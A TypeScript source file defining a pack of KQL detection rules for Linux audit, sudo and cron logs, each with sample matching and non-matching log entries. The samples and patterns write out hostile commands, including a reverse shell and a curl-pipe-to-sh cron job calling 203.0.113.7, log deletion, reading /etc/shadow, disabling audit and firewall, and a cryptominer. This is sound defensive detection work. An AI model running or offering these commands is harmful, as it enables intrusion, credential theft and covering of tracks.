import { EACH, type Pack, type SampleEntry } from "./pack.ts";

const HOST = { ...EACH, groupBy: ["host"] } as const;
const ran = (user: string, commandLine: string): SampleEntry => ({
  message: `type=AUOMS_EXECVE audit(1652292622.006:84144): syscall=execve success=yes user=${user} cmdline="${commandLine}"`,
  ...{ service: "auoms", host: "web-1" },
});
const says = (service: string, message: string): SampleEntry => ({ message, service, host: "web-1" });

export const LINUX_COMMANDS: Pack = {
  id: "linux-commands",
  name: "Linux: commands",
  description: "Commands that the kernel's audit, sudo and cron tell of.",
  expects: {
    sources:
      "the audit of Linux by syslog or the journal (also by the preset log-analytics-syslog), sudo and cron",
    kql: 'message contains "EXECVE" or service in ("audit", "auditd", "audisp", "auoms", "sudo", "CRON", "cron", "crond")',
  },
  rules: [
    {
      id: "linux-server-account-runs-shell",
      name: "The account of a server runs an interactive shell",
      description: "A hole in the application runs commands. Isolate the machine, then close the hole.",
      ...{ severity: "critical", attackTechnique: "T1190", ...HOST },
      kql: String.raw`message contains "EXECVE" and (message contains " user=tomcat" or message contains " user=www-data" or message contains " user=nginx" or message contains " user=apache" or message contains "uid=33 " or message contains "UID=\"www-data\"") and (message contains "bash -i" or message contains "sh -i" or message contains "bash -c" or message contains "/dev/tcp/")`,
      counts: ran("tomcat", "bash -i"),
      leaves: ran("tomcat", "/bin/sh /usr/bin/lesspipe"),
    },
    {
      id: "linux-encoded-command",
      name: "A command is decoded and run",
      description: "Nobody writes commands so who wants them read. Decode it, and isolate the machine.",
      ...{ severity: "high", attackTechnique: "T1027", ...HOST },
      kql: '(message contains "base64,-d" or message contains "base64 -d" or message contains "base64 --decode") and (message contains "|{bash" or message contains "| bash" or message contains "|bash" or message contains "| sh" or message contains "|sh")',
      counts: ran("ana", "bash -c {echo,aWQK}|{base64,-d}|{bash,-i}"),
      leaves: ran("ana", "base64 -d key.b64"),
    },
    {
      id: "linux-outgoing-shell",
      name: "A shell is connected to another machine",
      description: "Somebody works on the machine from there. Cut it off.",
      ...{ severity: "critical", attackTechnique: "T1059.004", ...HOST },
      kql: `message contains "/dev/tcp/" or (message contains "EXECVE" and (message contains "nc -e" or message contains "ncat -e" or message contains "socat exec" or message contains "mkfifo /tmp/"))`,
      counts: ran("ana", "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"),
      leaves: ran("ana", "nc -z 203.0.113.7 443"),
    },
    {
      id: "linux-history-removed",
      name: "The history of a shell or a log was removed",
      description: "What happened before is to disappear. See who did it, and read it here.",
      ...{ severity: "high", attackTechnique: "T1070.003", ...HOST },
      kql: '(service in ("sudo", "auoms", "audit", "auditd") or message contains "EXECVE") and (message contains "history -c" or message contains "unset HISTFILE" or message contains ".bash_history" or message contains "rm -rf /var/log" or message contains "truncate -s 0 /var/log" or message contains "journalctl --vacuum-time=1s")',
      counts: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/nginx"),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/less /var/log/syslog"),
    },
    {
      id: "linux-firewall-off",
      name: "The firewall of a host was switched off",
      description: "The machine can be reached from everywhere. Switch it on again.",
      ...{ severity: "high", attackTechnique: "T1562.004", ...HOST },
      kql: '(service == "sudo" or message contains "EXECVE") and (message contains "ufw disable" or message contains "iptables -F" or message contains "systemctl stop firewalld" or message contains "nft flush ruleset" or message contains "setenforce 0")',
      counts: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw disable"),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw status"),
    },
    {
      id: "linux-audit-off",
      name: "The audit of a host was switched off or emptied",
      description: "What is run there is not written down any more. Switch it on again.",
      ...{ severity: "high", attackTechnique: "T1562.012", ...HOST },
      kql: '(service == "sudo" or message contains "EXECVE") and (message contains "auditctl -D" or message contains "auditctl -e 0" or message contains "systemctl stop auditd" or message contains "service auditd stop" or message contains "systemctl stop rsyslog")',
      counts: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -D"),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -l"),
    },
    {
      id: "linux-passwords-read-with-sudo",
      name: "The file of passwords was read or changed with sudo",
      description: "The hashes are cracked elsewhere. See who did it, and why.",
      ...{ severity: "high", attackTechnique: "T1003.008", ...HOST },
      kql: 'service == "sudo" and message contains "COMMAND=" and (message contains "/etc/shadow" or message contains "/etc/sudoers" or message contains "unshadow")',
      counts: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/hosts"),
    },
    {
      id: "linux-keys-of-account-changed",
      name: "The keys that may sign in were changed by a command",
      description: "Whoever holds the new key comes back. See whose it is.",
      ...{ severity: "medium", attackTechnique: "T1098.004", ...HOST },
      kql: '(service == "sudo" or message contains "EXECVE") and message contains "authorized_keys" and (message contains "tee " or message contains ">>" or message contains "cp " or message contains "chattr")',
      counts: says(
        "sudo",
        "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /home/ana/.ssh/authorized_keys",
      ),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ls /home/ana/.ssh"),
    },
    {
      id: "linux-job-downloads",
      name: "A job of cron downloads and runs something",
      description: "It comes back by itself, with what its address gives that day. Remove the job.",
      ...{ severity: "high", attackTechnique: "T1053.003", ...HOST },
      kql: 'service in ("CRON", "cron", "crond") and message contains "CMD" and (message contains "curl " or message contains "wget ") and (message contains "| sh" or message contains "|sh" or message contains "| bash" or message contains "|bash" or message contains "/tmp/")',
      counts: says("CRON", "(root) CMD (curl -s http://203.0.113.7/a | sh)"),
      leaves: says("CRON", "(root) CMD (curl -s https://status.example.com/ping)"),
    },
    {
      id: "linux-preload-changed",
      name: "A library is loaded into every program",
      description: "It can hide files and read passwords. See which library it is.",
      ...{ severity: "critical", attackTechnique: "T1574.006", ...HOST },
      kql: '(service == "sudo" or message contains "EXECVE") and message contains "/etc/ld.so.preload"',
      counts: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/ld.so.preload"),
      leaves: says("sudo", "ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/ld.so.conf"),
    },
    {
      id: "linux-coins-mined",
      name: "Coins are mined on a Linux host",
      description: "Somebody uses the machine for themselves. See how the program came.",
      ...{ severity: "high", attackTechnique: "T1496", ...HOST },
      kql: 'message contains "xmrig" or message contains "stratum+tcp://" or message contains "kdevtmpfsi" or message contains "kinsing"',
      counts: ran("nobody", "./xmrig -o stratum+tcp://203.0.113.7:3333"),
      leaves: ran("nobody", "./train --epochs 3"),
    },
  ],
};
